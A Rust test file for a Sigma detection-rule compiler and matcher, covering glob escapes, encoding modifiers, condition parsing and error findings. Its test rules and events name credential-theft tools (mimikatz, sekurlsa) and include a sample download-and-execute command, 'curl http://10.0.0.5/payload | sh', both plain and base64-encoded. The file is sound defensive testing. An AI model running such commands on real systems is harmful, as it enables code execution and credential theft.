use super::condition::{self, Cond};
use super::value::{self, Part, SigmaStr, Utf16};
use super::*;
use crate::verify::matcher::{eval, glob_match};
use crate::verify::Verdict;
use serde_json::json;

fn det(yaml: &str) -> Compiled {
    let v = crate::formats::parse_yaml(yaml).expect("test YAML parses");
    compile(&v)
}

fn matches(c: &Compiled, ev: serde_json::Value) -> Verdict {
    eval(&c.expr, &ev)
}

fn preds(e: &Expr) -> Vec<Predicate> {
    e.predicates().into_iter().map(|(p, _)| p.clone()).collect()
}

// ---- values -------------------------------------------------------------------------

#[test]
fn escapes_follow_the_spec() {
    use Part::*;
    // `\*` is a literal star, also after a path: `\\*` is a backslash and a wildcard.
    assert_eq!(
        SigmaStr::parse(r"C:\Windows\*").parts.last(),
        Some(&Lit('*'))
    );
    assert_eq!(SigmaStr::parse(r"C:\Windows\\*").parts.last(), Some(&Star));
    assert_eq!(SigmaStr::parse(r"C:\Windows\\*").plain(), r"C:\Windows\");
    assert_eq!(
        SigmaStr::parse(r"a\*b").parts,
        vec![Lit('a'), Lit('*'), Lit('b')]
    );
    assert_eq!(SigmaStr::parse(r"a\?").parts, vec![Lit('a'), Lit('?')]);
    assert_eq!(SigmaStr::parse(r"\\*").parts, vec![Lit('\\'), Star]);
    assert_eq!(SigmaStr::parse(r"\\\*").parts, vec![Lit('\\'), Lit('*')]);
    assert_eq!(SigmaStr::parse(r"\\\\").plain(), r"\\");
    assert_eq!(SigmaStr::parse(r"\\\").plain(), r"\\");
    assert_eq!(SigmaStr::parse(r"end\").plain(), r"end\");
    assert!(!SigmaStr::parse(r"\\server\share").has_wildcards());
    assert_eq!(SigmaStr::parse(r"\\server\share").plain(), r"\server\share");
}

#[test]
fn globs_round_trip_through_the_matcher() {
    let cases = [
        (r"*\cmd.exe", r"C:\Windows\cmd.exe", true),
        (r"*\\*", r"a\b", true),
        (r"*\\*", "ab", false),
        (r"a\*b", "a*b", true),
        (r"a\*b", "axb", false),
        (r"x?z", "xyz", true),
        (r"x\?z", "xyz", false),
        (r"x\?z", "x?z", true),
        (r"\\\*", r"\*", true),
        (
            r"*\Temp\\*.ps1",
            r"C:\Users\a\AppData\Local\Temp\x.ps1",
            true,
        ),
        (
            r"*\Temp\*.ps1",
            r"C:\Users\a\AppData\Local\Temp\x.ps1",
            false,
        ),
        (r"*\Temp\*.ps1", r"C:\Temp*.ps1", true),
    ];
    for (pat, text, want) in cases {
        let g = SigmaStr::parse(pat).glob();
        assert_eq!(glob_match(&g, text), want, "{pat} as {g} on {text}");
    }
}

#[test]
fn wrapping_does_not_double_stars() {
    let s = SigmaStr::parse("*abc");
    assert_eq!(s.wrapped(true, true).glob(), "*abc*");
    assert_eq!(SigmaStr::parse("a?c").wrapped(false, true).glob(), "a?c*");
}

#[test]
fn base64_and_offsets_match_pysigma() {
    let v = SigmaStr::literal("Invoke-Mimikatz");
    let got: Vec<String> = value::base64offset(&v)
        .unwrap()
        .iter()
        .map(|s| s.plain())
        .collect();
    assert_eq!(
        got,
        [
            "SW52b2tlLU1pbWlrYXR6",
            "ludm9rZS1NaW1pa2F0e",
            "JbnZva2UtTWltaWthdH"
        ]
    );
    let wide = value::utf16(&SigmaStr::literal("whoami"), Utf16::Le);
    let got: Vec<String> = value::base64offset(&wide)
        .unwrap()
        .iter()
        .map(|s| s.plain())
        .collect();
    assert_eq!(
        got,
        ["dwBoAG8AYQBtAGkA", "cAaABvAGEAbQBpA", "3AGgAbwBhAG0AaQ"]
    );
    let iex = value::utf16(&SigmaStr::literal("IEX"), Utf16::Le);
    assert_eq!(value::base64(&iex).unwrap().plain(), "SQBFAFgA");
    assert!(value::base64(&SigmaStr::parse("a*")).is_err());
}

#[test]
fn utf16_variants() {
    let be = value::utf16(&SigmaStr::literal("A"), Utf16::Be);
    assert_eq!(be.plain(), "\u{0}A");
    let bom = value::utf16(&SigmaStr::literal("A"), Utf16::Bom);
    assert_eq!(bom.plain(), "\u{ff}\u{fe}A\u{0}");
    assert_eq!(value::base64(&bom).unwrap().plain(), "//5BAA==");
}

#[test]
fn windash_expands_word_start_dashes_only() {
    let v = value::windash(&SigmaStr::literal(" -enc ")).unwrap();
    let got: Vec<String> = v.iter().map(|s| s.plain()).collect();
    assert_eq!(
        got,
        [
            " -enc ",
            " /enc ",
            " \u{2013}enc ",
            " \u{2014}enc ",
            " \u{2015}enc "
        ]
    );
    assert_eq!(value::windash(&SigmaStr::literal("a-b")).unwrap().len(), 1);
    assert_eq!(
        value::windash(&SigmaStr::literal("-a /b")).unwrap().len(),
        25
    );
    assert!(value::windash(&SigmaStr::literal(" -a -b -c -d -e -f")).is_err());
}

// ---- condition grammar --------------------------------------------------------------

fn id(n: &str, at: usize) -> Cond {
    Cond::Ident { name: n.into(), at }
}

#[test]
fn precedence_not_and_or() {
    let p = condition::parse("a or b and not c").unwrap();
    assert_eq!(
        p.cond,
        Cond::Or(vec![
            id("a", 0),
            Cond::And(vec![id("b", 5), Cond::Not(Box::new(id("c", 15)))])
        ])
    );
    let p = condition::parse("(a or b) AND NOT c").unwrap();
    assert!(matches!(p.cond, Cond::And(ref v) if matches!(v[0], Cond::Or(_))));
}

#[test]
fn quantifiers() {
    let p = condition::parse("1 of sel_* and all of them").unwrap();
    assert_eq!(
        p.cond,
        Cond::And(vec![
            Cond::Of {
                all: false,
                pattern: Some("sel_*".into()),
                at: 0
            },
            Cond::Of {
                all: true,
                pattern: None,
                at: 15
            }
        ])
    );
    assert!(matches!(
        condition::parse("any of filter*").unwrap().cond,
        Cond::Of { all: false, .. }
    ));
}

#[test]
fn condition_errors_carry_offsets() {
    let e = condition::parse("sel and (a or b").unwrap_err();
    assert_eq!(e.at, 15);
    assert!(e.message.contains("`)`"), "{}", e.message);
    let e = condition::parse("sel and and x").unwrap_err();
    assert_eq!(e.at, 8);
    let e = condition::parse("2 of sel*").unwrap_err();
    assert_eq!(e.at, 0);
    let e = condition::parse("sel = 1").unwrap_err();
    assert_eq!(e.at, 4);
    assert!(condition::parse("   ").is_err());
    assert!(condition::parse("sel_*").is_err());
    assert!(condition::parse("a near b").is_err());
    assert!(condition::parse("1 of").is_err());
}

#[test]
fn v1_aggregation_tail() {
    let p = condition::parse("selection | count(User) by Computer > 5").unwrap();
    assert_eq!(
        p.aggregation.as_deref(),
        Some("count(User) by Computer > 5")
    );
    assert!(condition::parse("selection |").is_err());
}

// ---- detections ---------------------------------------------------------------------

#[test]
fn map_list_and_keywords() {
    let c = det(r#"
selection:
    Image|endswith: '\cmd.exe'
    CommandLine|contains:
        - '/c whoami'
        - '/c net user'
alt:
    - User: SYSTEM
    - User: 'NT AUTHORITY\\*'
keywords:
    - 'mimikatz'
    - 'sekurlsa::*'
condition: (selection and alt) or keywords
"#);
    assert!(c.findings.is_empty(), "{:?}", c.findings);
    let ev = json!({"Image": "C:\\Windows\\System32\\CMD.EXE", "CommandLine": "cmd /C WHOAMI", "User": "nt authority\\network service"});
    assert_eq!(matches(&c, ev), Verdict::Match);
    let ev = json!({"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c dir", "User": "SYSTEM"});
    assert_eq!(matches(&c, ev), Verdict::NoMatch);
    assert_eq!(
        matches(&c, json!({"Msg": "ran SEKURLSA::logonpasswords"})),
        Verdict::Match
    );
    let ps = preds(&c.expr);
    assert_eq!(ps[0].op, Op::EndsWith);
    assert_eq!(ps[0].values, vec![Value::str(r"\cmd.exe")]);
    assert!(!ps[0].case_sensitive);
    assert_eq!(ps[2].op, Op::Eq);
    assert_eq!(ps[3].op, Op::Glob);
    // Keywords: a field-less contains, or a glob with stars around.
    assert_eq!(ps[4].field, None);
    assert_eq!(ps[4].op, Op::Contains);
    assert_eq!(ps[5].op, Op::Glob);
    assert_eq!(ps[5].values, vec![Value::str("*sekurlsa::*")]);
    // Selections keep their names.
    assert!(
        matches!(&c.expr, Expr::Any { items } if matches!(&items[1], Expr::Named { name, .. } if name == "keywords"))
    );
}

#[test]
fn contains_all_and_windash() {
    let c = det(r#"
selection:
    CommandLine|contains|all|windash:
        - ' -nop '
        - ' -w hidden'
condition: selection
"#);
    assert_eq!(
        matches(&c, json!({"CommandLine": "powershell /nop /w hidden -c x"})),
        Verdict::Match
    );
    assert_eq!(
        matches(
            &c,
            json!({"CommandLine": "powershell \u{2013}nop -w hidden"})
        ),
        Verdict::Match
    );
    assert_eq!(
        matches(&c, json!({"CommandLine": "powershell -nop"})),
        Verdict::NoMatch
    );
    // Without expansion, `all` stays one predicate.
    let c = det("s:\n  a|contains|all: [x, y]\ncondition: s\n");
    let ps = preds(&c.expr);
    assert_eq!(ps.len(), 1);
    assert!(ps[0].all);
}

#[test]
fn base64_modifiers_match_encoded_command_lines() {
    let c = det(r#"
enc:
    CommandLine|base64offset|contains: 'Invoke-Mimikatz'
wide:
    CommandLine|wide|base64offset|contains: 'whoami'
plain:
    CommandLine|base64|contains: 'curl http'
condition: 1 of them
"#);
    assert!(c.findings.is_empty(), "{:?}", c.findings);
    // "xInvoke-Mimikatz" base64 at an offset.
    assert_eq!(
        matches(
            &c,
            json!({"CommandLine": "powershell -e eEludm9rZS1NaW1pa2F0eg=="})
        ),
        Verdict::Match
    );
    // UTF-16LE `Write-Host "hi"; whoami /all`.
    let wide = "VwByAGkAdABlAC0ASABvAHMAdAAgACIAaABpACIAOwAgAHcAaABvAGEAbQBpACAALwBhAGwAbAA=";
    assert_eq!(
        matches(
            &c,
            json!({"CommandLine": format!("powershell -enc {wide}")})
        ),
        Verdict::Match
    );
    assert_eq!(
        matches(
            &c,
            json!({"CommandLine": "echo Y3VybCBodHRwOi8vMTAuMC4wLjUvcGF5bG9hZCB8IHNo | base64 -d"})
        ),
        Verdict::Match
    );
    assert_eq!(
        matches(
            &c,
            json!({"CommandLine": "echo aGVsbG8gd29ybGQ= | base64 -d"})
        ),
        Verdict::NoMatch
    );
    let c2 = det("s:\n  c|base64: 'curl http://10.0.0.5/payload | sh'\ncondition: s\n");
    assert_eq!(
        matches(
            &c2,
            json!({"c": "Y3VybCBodHRwOi8vMTAuMC4wLjUvcGF5bG9hZCB8IHNo"})
        ),
        Verdict::Match
    );
    // Base64 values are case-sensitive by nature but Sigma compares case-insensitively
    // unless `cased`: the predicate says which.
    assert!(!preds(&c2.expr)[0].case_sensitive);
}

#[test]
fn regex_flags_cidr_numbers_and_exists() {
    let c = det(r#"
r:
    Url|re: '^https?://[0-9.]+/'
ri:
    Agent|re|i: 'python-requests/\d'
net:
    DestinationIp|cidr:
        - '10.0.0.0/8'
        - 'fd00::/8'
port:
    DestinationPort|gte: 1024
has_parent:
    ParentImage|exists: true
no_sig:
    Signature|exists: false
condition: r or ri or (net and port and has_parent and no_sig)
"#);
    assert!(c.findings.is_empty(), "{:?}", c.findings);
    assert_eq!(
        matches(&c, json!({"Url": "http://1.2.3.4/a"})),
        Verdict::Match
    );
    assert_eq!(
        matches(&c, json!({"Url": "HTTP://1.2.3.4/a"})),
        Verdict::NoMatch
    );
    assert_eq!(
        matches(&c, json!({"Agent": "Python-Requests/2.31"})),
        Verdict::Match
    );
    let ev = json!({"DestinationIp": "10.1.2.3", "DestinationPort": "4444", "ParentImage": "x"});
    assert_eq!(matches(&c, ev), Verdict::Match);
    let ev = json!({"DestinationIp": "10.1.2.3", "DestinationPort": 80, "ParentImage": "x"});
    assert_eq!(matches(&c, ev), Verdict::NoMatch);
    let ev = json!({"DestinationIp": "10.1.2.3", "DestinationPort": 4444, "ParentImage": "x", "Signature": "y"});
    assert_eq!(matches(&c, ev), Verdict::NoMatch);
    let ps = preds(&c.expr);
    assert!(ps[0].case_sensitive && !ps[1].case_sensitive);
    let c = det("s:\n  a|re|m|s: 'x.y$'\ncondition: s\n");
    assert_eq!(preds(&c.expr)[0].values, vec![Value::str("(?ms)x.y$")]);
    assert_eq!(matches(&c, json!({"a": "x\ny\nz"})), Verdict::Match);
}

#[test]
fn null_cased_neq_fieldref_and_date_parts() {
    let c = det("s:\n  t|hour: [22, 23]\ncondition: s\n");
    assert!(c.findings.is_empty());
    assert_eq!(
        matches(&c, json!({"t": "2024-05-01T23:10:00Z"})),
        Verdict::Match
    );
    let c = det(r#"
s:
    OriginalFileName: null
    Product|cased: 'Sysinternals'
    User|neq: 'SYSTEM'
    TargetFilename|fieldref|endswith: Name
    UtcTime|hour|gte: 22
condition: s
"#);
    // Accepted and evaluated, with a portability warning.
    assert_eq!(c.findings.len(), 1, "{:?}", c.findings);
    assert_eq!(c.findings[0].check, Check::InvalidValue);
    let ev = json!({"Product": "Sysinternals", "User": "bob", "TargetFilename": "C:\\x\\evil.exe", "Name": "EVIL.EXE", "UtcTime": "2024-05-01T23:10:00Z"});
    assert_eq!(matches(&c, ev.clone()), Verdict::Match);
    let mut e2 = ev.clone();
    e2["Product"] = json!("sysinternals");
    assert_eq!(matches(&c, e2), Verdict::NoMatch);
    let mut e3 = ev.clone();
    e3["User"] = json!("system");
    assert_eq!(matches(&c, e3), Verdict::NoMatch);
    let mut e4 = ev.clone();
    e4["OriginalFileName"] = json!("x.exe");
    assert_eq!(matches(&c, e4), Verdict::NoMatch);
    let mut e5 = ev;
    e5["UtcTime"] = json!("2024-05-01T08:10:00Z");
    assert_eq!(matches(&c, e5), Verdict::NoMatch);
    let ps = preds(&c.expr);
    assert_eq!(ps[0].op, Op::IsNull);
    assert!(ps[1].case_sensitive);
    assert!(ps[3].field_ref);
    assert_eq!(ps[4].transform, Some(crate::model::Transform::Hour));
}

#[test]
fn null_mixed_into_a_list_is_an_alternative() {
    let c = det("s:\n  a: [null, '']\ncondition: s\n");
    assert_eq!(matches(&c, json!({})), Verdict::Match);
    assert_eq!(matches(&c, json!({"a": ""})), Verdict::Match);
    assert_eq!(matches(&c, json!({"a": "x"})), Verdict::NoMatch);
}

#[test]
fn numbers_compare_with_strings() {
    let c = det("s:\n  EventID: [4624, 4625]\ncondition: s\n");
    assert_eq!(matches(&c, json!({"EventID": "4625"})), Verdict::Match);
    assert_eq!(matches(&c, json!({"EventID": 4624})), Verdict::Match);
    assert_eq!(matches(&c, json!({"EventID": 4688})), Verdict::NoMatch);
}

#[test]
fn them_and_patterns_skip_underscore_selections() {
    let c = det(r#"
sel_a: {a: 1}
sel_b: {b: 1}
_helper: {h: 1}
condition: all of them
"#);
    assert!(c
        .findings
        .iter()
        .any(|f| f.check == Check::UnusedSelection
            && f.anchor == Anchor::Selection("_helper".into())));
    assert_eq!(matches(&c, json!({"a": 1, "b": 1})), Verdict::Match);
    let c = det("_x: {a: 1}\ncondition: 1 of _x*\n");
    assert!(c.findings.is_empty());
}

#[test]
fn unknown_and_unused_selections_are_reported() {
    let c = det("selection: {a: 1}\nfilter: {b: 1}\ncondition: selection and not filtr\n");
    let checks: Vec<(Check, &Anchor)> = c.findings.iter().map(|f| (f.check, &f.anchor)).collect();
    assert!(checks.contains(&(
        Check::UnknownSelection,
        &Anchor::Condition { index: 0, at: 18 }
    )));
    assert!(checks.contains(&(Check::UnusedSelection, &Anchor::Selection("filter".into()))));
    assert!(!c.expr.fully_parsed());
    let c = det("selection: {a: 1}\ncondition: 1 of filter_*\n");
    assert!(c
        .findings
        .iter()
        .any(|f| f.check == Check::UnknownSelection));
}

#[test]
fn opaque_items_keep_their_text() {
    let c = det(r#"
s:
    Computer|expand: '%DomainControllers%'
    Image|endswith: '\x.exe'
t:
    a|frobnicate: 1
u:
    b|re: '(?<=x)y'
condition: s or t or u
"#);
    let reasons: Vec<(String, String)> = {
        let mut v = Vec::new();
        c.expr.walk(&mut |e| {
            if let Expr::Opaque { text, reason } = e {
                v.push((text.clone(), reason.clone()));
            }
        });
        v
    };
    assert_eq!(reasons.len(), 3, "{reasons:?}");
    assert_eq!(reasons[0].0, "Computer|expand: %DomainControllers%");
    assert!(reasons[0].1.contains("%DomainControllers%"));
    assert!(reasons[1].1.contains("frobnicate"));
    assert!(reasons[2].1.contains("regex"));
    let checks: Vec<Check> = c.findings.iter().map(|f| f.check).collect();
    assert!(checks.contains(&Check::SigmaPlaceholder));
    assert!(checks.contains(&Check::SigmaUnknownModifier));
    assert!(checks.contains(&Check::UnsupportedSyntax));
    // The known part still decides when it can.
    assert!(matches!(
        matches(&c, json!({"Image": "y.exe"})),
        Verdict::Unknown(_)
    ));
    let s_only = det("s:\n  Computer|expand: '%DC%'\n  Image|endswith: '\\x.exe'\ncondition: s\n");
    assert_eq!(
        matches(&s_only, json!({"Image": "y.exe"})),
        Verdict::NoMatch
    );
    assert!(matches!(
        matches(&s_only, json!({"Image": "c:\\x.exe"})),
        Verdict::Unknown(_)
    ));
    // expand without a placeholder is a plain value.
    let c = det("s:\n  a|expand: plain\ncondition: s\n");
    assert!(c.expr.fully_parsed());
}

#[test]
fn condition_lists_and_aggregations() {
    let c = det("a: {x: 1}\nb: {y: 1}\ncondition:\n  - a\n  - b\n");
    assert_eq!(matches(&c, json!({"y": 1})), Verdict::Match);
    let c = det("a: {x: 1}\ntimeframe: 5m\ncondition: a | count() by host > 3\n");
    assert!(
        matches!(&c.expr, Expr::Aggregate { description, .. } if description.contains("timeframe 5m"))
    );
    assert!(c
        .findings
        .iter()
        .any(|f| f.check == Check::SigmaObsoleteSyntax));
    assert_eq!(matches(&c, json!({"x": 2})), Verdict::NoMatch);
    assert!(matches!(matches(&c, json!({"x": 1})), Verdict::Unknown(_)));
}

#[test]
fn malformed_detections_do_not_panic() {
    for y in [
        "condition: sel\n",
        "sel: null\ncondition: sel\n",
        "sel: []\ncondition: sel\n",
        "sel: {}\ncondition: sel\n",
        "sel: [[1]]\ncondition: sel\n",
        "sel: {a: {b: 1}}\ncondition: sel\n",
        "sel: {a|exists: maybe}\ncondition: sel\n",
        "sel: {a|cidr: nonsense}\ncondition: sel\n",
        "sel: {a|base64: 'x*'}\ncondition: sel\n",
        "sel: {a: 1}\n",
        "sel: {a: 1}\ncondition: ((((sel\n",
        "sel: {'|': 1}\ncondition: sel\n",
    ] {
        let c = det(y);
        assert!(!c.findings.is_empty(), "no finding for {y:?}");
    }
    let c = compile(&json!("just text"));
    assert!(!c.expr.fully_parsed());
}
